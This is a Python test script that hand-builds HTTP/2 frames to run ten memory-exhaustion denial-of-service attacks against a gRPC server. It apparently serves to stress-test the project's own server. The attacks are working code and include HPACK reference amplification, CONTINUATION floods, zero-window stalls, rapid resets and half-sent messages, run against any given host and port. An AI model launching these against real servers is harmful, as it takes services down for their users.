"""Attacks on a server's memory over HTTP/2 by a client without a token.

python -m tests.attack.attacks ATTACK ACKNOWLEDGEMENT HOST PORT SECONDS

It prints the number of bytes sent. Frames follow RFC 9113, and headers follow RFC 7541.
ATTACK_CONNECTIONS is the number of connections, by default 8.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

__all__ = ["ACKNOWLEDGEMENTS", "ATTACKS", "main"]

CONNECTIONS = int(os.environ.get("ATTACK_CONNECTIONS", "8"))
SOURCE = "127.0.0.2"
"""Address of the attacker. Limits per address then do not affect good clients."""
BYTES_MAX = 64 << 20  # For one connection.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREDICT = b"/embershard.v1.Predictor/Predict"
CHECK, WATCH = b"/grpc.health.v1.Health/Check", b"/grpc.health.v1.Health/Watch"
STREAMS_MAX = 2**31 - 1
BATCH = 10  # Number of calls that are sent at once.
VALUE_CHARS = 3000  # For `references`: the header fits the default table of 4096 bytes.
FRAME_BYTES = 16_000  # The limit for a frame is 16,384.
LIST_BYTES_MAX = 16 << 20  # gRPC's limit before the settings' ACK.
ENDLESS_CHARS = 1 << 30
ACKNOWLEDGEMENTS = ("correct", "early", "missing")


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value: int, bits: int) -> bytes:
    """An integer of RFC 7541, section 5.1. The bits before it in its first byte are 0."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    text, value = bytes([most]), value - most
    while value >= 128:
        text, value = text + bytes([value % 128 + 128]), value // 128
    return text + bytes([value])


def literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def call_headers(path: bytes, *extra: bytes) -> bytes:
    """Headers of a call without compression: RFC 7541, section 6.2.2."""
    return b"".join(
        [
            literal(b":method", b"POST"),
            literal(b":scheme", b"http"),
            literal(b":path", path),
            literal(b":authority", b"localhost"),
            literal(b"te", b"trailers"),
            literal(b"content-type", b"application/grpc"),
            *extra,
        ]
    )


def begin(stream: int, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block)


def empty_message(stream: int) -> bytes:
    return frame(DATA, END_STREAM, stream, bytes(5))


def references(
    stream: int, path: bytes = CHECK, chars: int = VALUE_CHARS, count: int = 8 * FRAME_BYTES
) -> bytes:
    """Adds a header to the table of the connection. Each byte of the next frames refers to it."""
    added = b"\x40" + integer(1, 7) + b"x" + integer(chars, 7) + b"v" * chars
    first = frame(HEADERS, 0, stream, call_headers(path) + added)
    sizes = [min(FRAME_BYTES, count - sent) for sent in range(0, count, FRAME_BYTES)]
    named = b"".join(frame(CONTINUATION, 0, stream, b"\xbe" * size) for size in sizes)
    return first + named + frame(CONTINUATION, END_HEADERS, stream, b"")


def large_list(stream: int) -> bytes:
    """A watch with the most references that gRPC accepts, which it keeps until the watch ends."""
    chars = 247
    # Sizes are those of RFC 7541, section 4.1. Four entries less leave room for the call's headers.
    count = LIST_BYTES_MAX // (1 + chars + 32) - 4
    return references(stream, WATCH, chars, count) + empty_message(stream)


def endless_block(stream: int) -> bytes:
    """The beginning of a header, then frames that continue its value."""
    if stream > 1:
        return frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES)
    return frame(HEADERS, 0, 1, b"\0" + integer(1, 7) + b"x" + integer(ENDLESS_CHARS, 7))


def unread_answer(stream: int) -> bytes:
    return begin(stream, call_headers(CHECK)) + empty_message(stream)


def without_token(stream: int) -> bytes:
    return begin(stream, call_headers(PREDICT)) + empty_message(stream)


def indexed(stream: int) -> bytes:
    """A call without a token in 15 bytes. The first call puts its headers into the table."""
    if stream > 1:
        return begin(stream, b"\x83\x86\xc1\xc0\xbf\xbe")
    named = [
        (b":path", PREDICT),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ]
    added = (b"\x40" + literal(name, value)[1:] for name, value in named)
    return begin(stream, b"\x83\x86" + b"".join(added))  # 83 is POST, 86 is http.


def watch(stream: int) -> bytes:
    return begin(stream, call_headers(WATCH)) + empty_message(stream)


def half_sent(stream: int) -> bytes:
    """The headers and the first bytes of a message of 60 MiB."""
    return begin(stream, call_headers(CHECK)) + frame(
        DATA, 0, stream, struct.pack(">BI", 0, 60 << 20) + bytes(100)
    )


def reset(stream: int) -> bytes:
    return begin(stream, call_headers(CHECK)) + frame(RST_STREAM, 0, stream, bytes(4))


def expired(stream: int) -> bytes:
    return begin(stream, call_headers(CHECK, literal(b"grpc-timeout", b"1n")))


PAUSED_SECONDS = {"large header lists": 0.5}
"""Pause between batches, for attacks that are no flood of calls."""
ATTACKS: dict[str, tuple[Callable[[int], bytes], bytes]] = {
    "header references": (references, b""),
    "unread answers": (unread_answer, struct.pack(">HI", 4, 0)),  # INITIAL_WINDOW_SIZE is 0.
    "calls without a token": (without_token, b""),
    "indexed calls": (indexed, b""),
    "health watches": (watch, b""),
    "half-sent calls": (half_sent, b""),
    "resets": (reset, b""),
    "expired deadlines": (expired, b""),
    "large header lists": (large_list, b""),
    "endless headers": (endless_block, b""),
}


def attack(name: str, acknowledgement: str, address: tuple[str, int], until: float) -> int:
    """Connects again and again. Returns the number of bytes sent."""
    sent = 0
    while time.monotonic() < until:
        try:
            with socket.create_connection(address, 1, (SOURCE, 0)) as connection:
                for part in bytes_of(name, acknowledgement, connection, until):
                    connection.sendall(part)
                    sent += len(part)
        except OSError:  # The server has closed the connection, or reads no more.
            time.sleep(0.01)
    return sent


def bytes_of(
    name: str, acknowledgement: str, connection: socket.socket, until: float
) -> Iterator[bytes]:
    make, settings = ATTACKS[name]
    acknowledged = frame(SETTINGS, ACK, 0, b"")
    hello = PREFACE + frame(SETTINGS, 0, 0, settings)
    yield hello + acknowledged if acknowledgement == "early" else hello
    if acknowledgement == "correct":
        connection.recv(9)
        yield acknowledged
    reader = threading.Thread(target=read_all, args=(connection,), daemon=True)
    reader.start()
    total = 0
    for first in range(1, STREAMS_MAX, 2 * BATCH):
        if time.monotonic() >= until:
            return
        if total >= BYTES_MAX:  # Open streams stay open until the end.
            time.sleep(0.01)
            continue
        batch = b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
        total += len(batch)
        yield batch
        time.sleep(PAUSED_SECONDS.get(name, 0))


def read_all(connection: socket.socket) -> None:
    """Reads and drops answers, so that the server's writes do not end the attack."""
    while True:
        try:
            if not connection.recv(1 << 16):
                return
        except TimeoutError:  # The server sent nothing for a second.
            continue
        except OSError:  # The connection is closed.
            return


def main(name: str, acknowledgement: str, host: str, port: str, seconds: str) -> None:
    until, sent = time.monotonic() + float(seconds), [0] * CONNECTIONS

    def run(number: int) -> None:
        sent[number] = attack(name, acknowledgement, (host, int(port)), until)

    threads = [threading.Thread(target=run, args=(number,)) for number in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(sent))


if __name__ == "__main__":
    main(*sys.argv[1:])
